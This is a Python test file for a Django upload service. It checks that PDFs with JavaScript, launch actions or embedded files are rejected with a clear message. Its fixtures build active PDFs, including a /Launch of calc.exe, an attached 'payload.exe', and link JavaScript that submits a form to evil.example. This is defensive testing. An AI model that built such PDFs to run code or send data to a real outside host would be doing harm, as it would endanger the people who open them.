"""Issue 13, finding 8: PDFs with JavaScript, launch actions or embedded files are refused with
a clear message (core/uploads), whichever upload takes them."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from core.uploads.models import StoredFile
from core.uploads.services import check_pdf
from tests.conftest import client_for
from tests.factories.accounts import UserFactory
from tests.factories.profiles import pdf_bytes


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _with_open_action(action: dict) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject(k): v for k, v in action.items()}
    )
    return _written(writer)


def javascript_pdf() -> bytes:
    return _with_open_action(
        {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    )


def launch_pdf() -> bytes:
    return _with_open_action({"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")})


def attachment_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("payload.exe", b"MZ not really")
    return _written(writer)


def link_with_javascript_pdf() -> bytes:
    """JavaScript hidden in a link annotation on the page, not in the catalog."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("this.submitForm('https://evil.example')"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


CASES = [
    (javascript_pdf, "contains JavaScript"),
    (launch_pdf, "contains a launch action"),
    (attachment_pdf, "contains embedded files"),
    (link_with_javascript_pdf, "contains JavaScript"),
]


@pytest.mark.parametrize(("make", "message"), CASES, ids=["js", "launch", "embedded", "link-js"])
def test_active_pdfs_are_refused_with_a_clear_message(make, message):
    content = make()
    with pytest.raises(ValidationError) as error:
        check_pdf(io.BytesIO(content), size=len(content))
    assert message in error.value.messages[0]
    assert "Save as PDF" in error.value.messages[0]


def test_a_plain_pdf_passes():
    content = pdf_bytes()
    assert check_pdf(io.BytesIO(content), size=len(content)) == 1


@pytest.mark.django_db
def test_the_resume_page_shows_the_message_and_stores_nothing():
    mentee = UserFactory()
    response = client_for(mentee).post(
        reverse("accounts:resume-upload"),
        {"resume": SimpleUploadedFile("cv.pdf", javascript_pdf(), "application/pdf")},
    )
    assert "contains JavaScript" in response.content.decode()
    assert not StoredFile.objects.exists()
